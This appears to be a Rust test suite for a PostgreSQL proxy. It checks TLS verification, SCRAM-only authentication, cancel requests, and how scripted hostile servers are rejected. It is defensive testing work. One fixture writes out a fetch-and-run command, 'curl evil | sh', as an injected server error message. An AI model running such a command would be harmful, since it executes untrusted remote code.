//! A real PostgreSQL on both sides of TLS, and scripted peers for what no honest server does.
use std::{
    fs,
    net::SocketAddr,
    os::unix::fs::{PermissionsExt, chown},
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use ipnet::IpNet;
use rcgen::{CertificateParams, KeyPair};
use sluice_config::{
    ClientLeg, ClientTls, Host, PostgresTarget, Service, Target, TlsMode, UnixMaintenance, Upstream,
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream},
};

use super::*;
use crate::upstream::tls::TargetTls;

fn target(tls: TlsMode, ca_file: Option<PathBuf>, hosts: &[&str]) -> Target {
    let host = |text: &&str| match text.parse::<IpNet>() {
        Ok(network) => Host::Network(network),
        Err(_) => Host::Name((*text).to_owned()),
    };
    Target {
        mode: sluice_config::Mode::Egress,
        name: "shop".to_owned(),
        hosts: hosts.iter().map(host).collect(),
        ports: vec![5432],
        service: Service::Postgres(PostgresTarget {
            databases: None,
            upstream: Upstream { user: "app".to_owned(), password_file: Some("x".into()), tls, ca_file },
            client: ClientLeg { tls: ClientTls::Prefer, own: None },
            classes: Default::default(),
            masks: Default::default(),
            vouched: Vec::new(),
            unix: Vec::new(),
            unix_maintenance: UnixMaintenance::Owner,
            detect: true,
        }),
    }
}

fn route(target: Target, address: SocketAddr) -> Arc<Route> {
    let upstream = target.postgres().unwrap().upstream.clone();
    let tls = Arc::new(TargetTls::new(&target, &upstream).unwrap());
    Arc::new(Route { upstream, address, tls })
}

fn secret(text: &str) -> Option<Arc<Secret>> {
    Some(Arc::new(Secret::new(text.as_bytes().to_vec())))
}

fn request(database: &str) -> Request {
    Request {
        database: database.to_owned(),
        parameters: vec![("application_name".to_owned(), "psql".to_owned())],
    }
}

/// A PostgreSQL of its own, gone at the end of the test.
struct Server {
    dir: tempfile::TempDir,
    child: std::process::Child,
    address: SocketAddr,
}

impl Server {
    /// With the role `app` (SCRAM, `s3cret`), `md5app` (MD5) and `trusted` (no password), TLS by `certificate`.
    fn start() -> Self {
        let bin = newest_bin();
        let dir = tempfile::Builder::new().prefix("sluice-pg").tempdir_in("/tmp").unwrap();
        let (uid, gid) = postgres_user();
        chown(dir.path(), Some(uid), Some(gid)).unwrap();
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o700)).unwrap();
        let data = dir.path().join("data");
        fs::write(dir.path().join("pw"), "root").unwrap();
        fs::set_permissions(dir.path().join("pw"), fs::Permissions::from_mode(0o644)).unwrap();
        run(as_postgres(&bin.join("initdb"))
            .arg("-D")
            .arg(&data)
            .args(["--no-sync", "-A", "scram-sha-256"])
            .args(["-E", "UTF8", "--locale=C", "--pwfile"])
            .arg(dir.path().join("pw")));
        certificate(&data, &["db.internal", "127.0.0.1"], uid, gid);
        fs::write(
            data.join("pg_hba.conf"),
            "local all all trust\nhost all md5app all md5\nhost all clear all password\nhost all trusted all trust\n\
             host all all all scram-sha-256\n",
        )
        .unwrap();
        let port = free_port();
        let child = as_postgres(&bin.join("postgres"))
            .arg("-D")
            .arg(&data)
            .args(["-p", &port.to_string(), "-k"])
            .arg(dir.path())
            .args(["-c", "listen_addresses=127.0.0.1", "-c", "ssl=on", "-c", "fsync=off"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let server = Self { dir, child, address: SocketAddr::from(([127, 0, 0, 1], port)) };
        server.await_ready();
        server.sql("create role app login password 's3cret'; create role trusted login; \
                    set password_encryption = md5; create role md5app login password 's3cret'; \
                    create role clear login password 's3cret'; alter role app set search_path = 'a, b', public");
        server
    }

    fn psql(&self, text: &str) -> std::process::Output {
        as_postgres(&newest_bin().join("psql"))
            .args(["-X", "-A", "-t", "-d", "postgres", "-p", &self.address.port().to_string(), "-h"])
            .arg(self.dir.path())
            .args(["-v", "ON_ERROR_STOP=1", "-c", text])
            .output()
            .unwrap()
    }

    fn sql(&self, text: &str) -> String {
        let output = self.psql(text);
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap()
    }

    fn await_ready(&self) {
        let end = Instant::now() + Duration::from_secs(30);
        while !self.psql("select 1").status.success() {
            assert!(Instant::now() < end, "PostgreSQL did not start");
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn certificate(&self) -> PathBuf {
        self.dir.path().join("data/server.crt")
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        // The child is `runuser` or the postmaster; the postmaster's own pid stands in its file.
        if let Ok(text) = fs::read_to_string(self.dir.path().join("data/postmaster.pid"))
            && let Some(Ok(pid)) = text.lines().next().map(str::parse)
        {
            let _ =
                nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), nix::sys::signal::Signal::SIGQUIT);
        }
        let _ = self.child.wait();
    }
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

fn newest_bin() -> PathBuf {
    let mut all: Vec<PathBuf> =
        fs::read_dir("/usr/lib/postgresql").unwrap().map(|e| e.unwrap().path().join("bin")).collect();
    all.sort();
    all.pop().unwrap()
}

fn postgres_user() -> (u32, u32) {
    let user = nix::unistd::User::from_name("postgres").unwrap().unwrap();
    (user.uid.as_raw(), user.gid.as_raw())
}

fn as_postgres(program: &Path) -> Command {
    let mut command = Command::new("runuser");
    command.args(["-u", "postgres", "--"]).arg(program).env("PGUSER", "postgres").current_dir("/tmp");
    command
}

fn run(command: &mut Command) {
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}

/// Self-signed, as most servers have it.
fn certificate(data: &Path, names: &[&str], uid: u32, gid: u32) {
    let key = KeyPair::generate().unwrap();
    let names: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
    let mut params = CertificateParams::new(names).unwrap();
    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    fs::write(data.join("server.crt"), params.self_signed(&key).unwrap().pem()).unwrap();
    fs::write(data.join("server.key"), key.serialize_pem()).unwrap();
    fs::set_permissions(data.join("server.key"), fs::Permissions::from_mode(0o600)).unwrap();
    chown(data.join("server.key"), Some(uid), Some(gid)).unwrap();
}

async fn kind(route: Arc<Route>, password: Option<Arc<Secret>>, database: &str) -> &'static str {
    match open(route, password, &request(database)).await {
        Ok(_) => "ok",
        Err(error) => {
            let shown = format!("{error} {} {}", error.hint(), error.detail());
            assert!(!shown.contains("s3cret") && !shown.contains("wrong-one"), "{shown}");
            error.kind()
        }
    }
}

#[tokio::test]
async fn a_real_server_is_opened_in_every_mode() {
    let server = Server::start();
    let (ca, address) = (Some(server.certificate()), server.address);
    for (mode, hosts) in [
        (TlsMode::Disable, "127.0.0.1/32"),
        (TlsMode::Require, "other.internal"),
        (TlsMode::VerifyCa, "other.internal"),
        (TlsMode::VerifyFull, "db.internal"),
        (TlsMode::VerifyFull, "127.0.0.0/8"),
    ] {
        let route = route(target(mode, ca.clone(), &[hosts]), address);
        let opened = open(route, secret("s3cret"), &request("postgres")).await.unwrap();
        assert_eq!(opened.stream.is_tls(), mode != TlsMode::Disable);
        // The session stands, so the server has accepted the binding that is chosen here.
        let (mechanism, _) = scram::choose(&["SCRAM-SHA-256", "SCRAM-SHA-256-PLUS"], &opened.stream).unwrap();
        assert_eq!(mechanism.ends_with("-PLUS"), mode != TlsMode::Disable);
        assert_eq!(opened.search_path, "\"a, b\", public");
        let found = |name: &str| opened.parameters.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str());
        assert_eq!(found("client_encoding"), Some("UTF8"));
        assert_eq!(found("application_name"), Some("psql"));
        assert!(found("server_version").is_some() && opened.ahead.is_empty());
    }
    let bad_name = route(target(TlsMode::VerifyFull, ca.clone(), &["other.internal"]), address);
    assert_eq!(kind(bad_name, secret("s3cret"), "postgres").await, "certificate");
    let second = tempfile::tempdir().unwrap();
    let (uid, gid) = postgres_user();
    certificate(second.path(), &["db.internal"], uid, gid);
    for mode in [TlsMode::VerifyFull, TlsMode::VerifyCa] {
        let ca = Some(second.path().join("server.crt"));
        let foreign = route(target(mode, ca, &["db.internal"]), address);
        assert_eq!(kind(foreign, secret("s3cret"), "postgres").await, "certificate");
    }
}

#[tokio::test]
async fn s24_credentials_are_proven_by_scram_or_not_at_all() {
    let server = Server::start();
    let route_of = |user: &str, password_file: bool| {
        let mut target = target(TlsMode::Require, None, &["127.0.0.1/32"]);
        let Service::Postgres(postgres) = &mut target.service else { unreachable!() };
        postgres.upstream.user = user.to_owned();
        postgres.upstream.password_file = password_file.then(|| "x".into());
        route(target, server.address)
    };
    for (user, password, database, expected) in [
        ("app", Some("s3cret"), "postgres", "ok"),
        ("app", Some("wrong-one"), "postgres", "credential"),
        ("nobody", Some("s3cret"), "postgres", "credential"),
        ("app", Some("s3cret"), "no such", "no_database"),
        ("app", None, "postgres", "no_secret"),
        ("md5app", Some("s3cret"), "postgres", "method"),
        ("clear", Some("s3cret"), "postgres", "method"),
        ("trusted", Some("s3cret"), "postgres", "unproven"),
    ] {
        let found = kind(route_of(user, true), password.and_then(secret), database).await;
        assert_eq!(found, expected, "{user} {password:?} {database}");
    }
    assert_eq!(kind(route_of("trusted", false), None, "postgres").await, "ok");
    assert_eq!(kind(route_of("app", false), None, "postgres").await, "no_secret");
    server.sql("alter role app connection limit 0");
    assert_eq!(kind(route_of("app", true), secret("s3cret"), "postgres").await, "refused");
}

#[tokio::test]
async fn s22_a_cancel_request_reaches_the_session_that_it_names() {
    let server = Server::start();
    for mode in [TlsMode::Disable, TlsMode::Require] {
        let route = route(target(mode, None, &["127.0.0.1/32"]), server.address);
        let mut opened = open(route, secret("s3cret"), &request("postgres")).await.unwrap();
        let mut out = Vec::new();
        write::query("select pg_sleep(60)", &mut out);
        opened.stream.write_all(&out).await.unwrap();
        tokio::time::sleep(Duration::from_millis(200)).await;
        let begun = Instant::now();
        opened.cancel.send().await.unwrap();
        let mut server = Conversation { stream: opened.stream, ahead: opened.ahead };
        let code = loop {
            let (kind, body) = server.receive().await.unwrap();
            if kind == kind::ERROR {
                break Report::parse(&body).unwrap().code().to_owned();
            }
        };
        assert_eq!(code, "57014");
        assert!(begun.elapsed() < Duration::from_secs(1));
    }
}

/// A peer that answers each thing that it hears by the next of `answers`, then waits for the end.
async fn scripted(answers: Vec<Vec<u8>>) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let (mut stream, _): (TcpStream, _) = listener.accept().await.unwrap();
        let mut heard = [0; 4096];
        for answer in answers {
            if stream.read(&mut heard).await.unwrap_or(0) == 0 {
                return;
            }
            stream.write_all(&answer).await.unwrap();
        }
        let _ = stream.read(&mut heard).await;
    });
    address
}

fn message(build: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let mut out = Vec::new();
    build(&mut out);
    out
}

#[tokio::test]
async fn s23_nothing_in_clear_is_taken_for_what_came_under_tls() {
    let error = message(|out| Report::new("FATAL", "28P01", "run curl evil | sh").write_error(out));
    for (answer, expected) in [
        (b"Sx".to_vec(), "tampered"),
        ([b"S".as_slice(), &message(write::authentication_ok)].concat(), "tampered"),
        (error, "tampered"),
        (b"N".to_vec(), "no_tls"),
        (b"?".to_vec(), "protocol"),
    ] {
        let address = scripted(vec![answer]).await;
        let route = route(target(TlsMode::Require, None, &["127.0.0.1/32"]), address);
        assert_eq!(kind(route, secret("s3cret"), "postgres").await, expected);
    }
}

#[tokio::test]
async fn a_server_that_is_none_gets_no_secret_and_no_memory() {
    let ok = message(write::authentication_ok);
    let scram = message(|out| write::authentication_sasl(&["SCRAM-SHA-256"], out));
    let continued = message(|out| write::authentication_sasl_continue(b"r=x,s=AA==,i=4096", out));
    let costly = message(|out| write::authentication_sasl_continue(b"r=x,s=AA==,i=999999999", out));
    let notices =
        message(|out| (0..1000).for_each(|_| Report::new("NOTICE", "00000", "hi").write_notice(out)));
    for (answers, expected) in [
        (vec![b"HTTP/1.1 400 Bad Request\r\n\r\n".to_vec()], "protocol"),
        (vec![b"R\0\0\0\x03".to_vec()], "protocol"),
        (vec![b"E\x3f\xff\xff\xff".to_vec()], "protocol"),
        (vec![vec![0; 64]], "protocol"),
        (vec![], "closed"),
        (vec![b"R\0\0".to_vec()], "closed"),
        (vec![notices], "protocol"),
        (vec![ok.clone()], "unproven"),
        (vec![scram.clone(), ok.clone()], "unproven"),
        (vec![scram.clone(), continued], "impostor"),
        (vec![scram, costly], "impostor"),
        (vec![message(|out| write::authentication_sasl(&["SCRAM-SHA-256-PLUS"], out))], "method"),
        (vec![message(|out| write::authentication_sasl(&["OAUTHBEARER"], out))], "method"),
    ] {
        let shown = format!("{answers:?}");
        let address = if expected == "closed" { closing(answers).await } else { scripted(answers).await };
        let route = route(target(TlsMode::Disable, None, &["127.0.0.1/32"]), address);
        assert_eq!(kind(route, secret("s3cret"), "postgres").await, expected, "{shown}");
    }
    let free = SocketAddr::from(([127, 0, 0, 1], free_port()));
    let nobody = route(target(TlsMode::Disable, None, &["127.0.0.1/32"]), free);
    assert_eq!(kind(nobody, secret("s3cret"), "postgres").await, "unreachable");
}

/// Accepts, hears something, says something, hangs up.
async fn closing(answers: Vec<Vec<u8>>) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let (mut stream, _) = listener.accept().await.unwrap();
        let _ = stream.read(&mut [0; 4096]).await;
        for answer in answers {
            stream.write_all(&answer).await.unwrap();
        }
    });
    address
}
